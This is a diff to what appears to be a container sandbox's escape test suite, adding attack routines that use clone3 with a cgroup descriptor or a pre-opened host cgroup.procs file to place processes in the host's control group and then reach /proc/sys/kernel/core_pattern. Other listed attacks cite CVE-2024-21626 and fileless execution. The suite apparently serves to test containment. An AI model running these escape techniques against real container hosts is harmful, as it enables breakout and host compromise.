@@ -258,6 +258,77 @@ def group_left() -> None:
         file.write("0")
 
 
+def unified() -> str:
+    """Where the host's hierarchy of version 2 is."""
+    return next((g for g in ("/groups", "/unified") if os.path.exists(f"{g}/cgroup.controllers")), "/groups")
+
+
+def own_group() -> str:
+    """Our directory there, whatever our namespace of control groups calls it."""
+    for directory, _, files in os.walk(unified()):
+        if "cgroup.procs" in files:
+            with open(f"{directory}/cgroup.procs", encoding="ascii") as processes:
+                if f"{os.getpid()}\n" in processes:
+                    return directory
+    raise FileNotFoundError(errno.ENOENT, "no control group")
+
+
+def born_in(group: str) -> int:
+    """As fork(), into a control group."""
+    directory = os.open(group, os.O_RDONLY | os.O_DIRECTORY)
+    arguments = struct.pack("11Q", 0x200000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, directory)
+    return refused(calls.clone3(arguments, len(arguments)))
+
+
+def pass_on(code: int) -> None:
+    """What became of a child becomes of us."""
+    if code < 0:
+        os.kill(os.getpid(), -code)
+    if code:
+        raise OSError(code, "child")
+
+
+def end_as(code: int) -> None:
+    """The same where nobody catches it."""
+    if code < 0:
+        os.kill(os.getpid(), -code)
+    os._exit(code)
+
+
+def wait_for(pid: int) -> int:
+    """As attempt() returns it."""
+    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+
+
+def core_pattern_by_shell() -> None:
+    """By another program."""
+    pass_on(os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", ": <>/proc/sys/kernel/core_pattern 2>/dev/null || exit 1"]))
+
+
+def born_outside() -> None:
+    """The child is in none of the container's control groups, and neither is what it begins."""
+    pid = born_in(unified())
+    if not pid:
+        end_as(attempt(core_pattern_by_shell) and attempt(core_pattern))
+    pass_on(wait_for(pid))
+
+
+def born_outside_and_back() -> None:
+    """As who comes into a container from outside, who is not asked."""
+    home = own_group()
+    pid = born_in(unified())
+    if not pid:
+        back = born_in(home)
+        end_as(wait_for(back) if back else attempt(core_pattern))
+    pass_on(wait_for(pid))
+
+
+def moved_outside() -> None:
+    """By a file that was open before anything was in force."""
+    os.pwrite(OPENED[1], b"0", 0)
+    pass_on(attempt(core_pattern))
+
+
 def leaked_directory() -> None:
     """CVE-2024-21626: the working directory is one of the host's, and all else is relative to it."""
     os.chdir(f"/proc/self/fd/{LEAKED[0]}")
@@ -380,7 +451,9 @@ OPENED: list[int] = []
 ATTACKS = {
     "program in memory": fileless, "program in memory by descriptor": fileless_by_descriptor,
     "program in memory as interpreter": fileless_by_interpreter, "program in memory by the loader": fileless_by_loader,
-    "control group left": group_left, "leaked directory": leaked_directory, "leaked directory changed": leaked_directory_changed,
+    "control group left": group_left, "born in the host's control group": born_outside,
+    "born in the host's control group and back": born_outside_and_back, "moved to the host's control group": moved_outside,
+    "leaked directory": leaked_directory, "leaked directory changed": leaked_directory_changed,
     "leaked directory given away": leaked_directory_given, "guard's file given away": guard_file_given,
     "runtime overwritten": runtime_overwritten, "signal to the guard": kill_guard,
     "signal beyond": signal_beyond,
@@ -435,6 +508,13 @@ def ordinary() -> None:
     name = next((n for _, controllers, n in names if controllers in ("", "pids") and os.path.exists(f"/groups{n}/cgroup.procs")), "")
     with open(f"/groups{name}/cgroup.procs" if name.strip("/") else "/dev/null", "w", encoding="ascii") as file:
         file.write("0")         # its own
+    below = f"{own_group()}/below"
+    os.mkdir(below)             # as service managers have it
+    pid = born_in(below)
+    if not pid:
+        os._exit(os.spawnv(os.P_WAIT, "/bin/true", ["true"]))
+    pass_on(wait_for(pid))
+    os.rmdir(below)
     for own in ("/proc/self/root/tmp", "/proc/self/cwd/tmp", f"/proc/{os.getpid()}/root/tmp"):
         os.mkdir(f"{own}/directory")
         os.rmdir(f"{own}/directory")
@@ -472,6 +552,7 @@ def main() -> None:
     done: set[str] = {"leak"}
     LEAKED.extend(receive_leaked())
     OPENED.append(os.open("/proc/sys/kernel/core_pattern", os.O_RDWR))
+    OPENED.append(os.open("/groups/cgroup.procs", os.O_WRONLY))
     while True:
         for name in sorted(os.listdir(ROUNDS)):
             if "." in name or name in done:
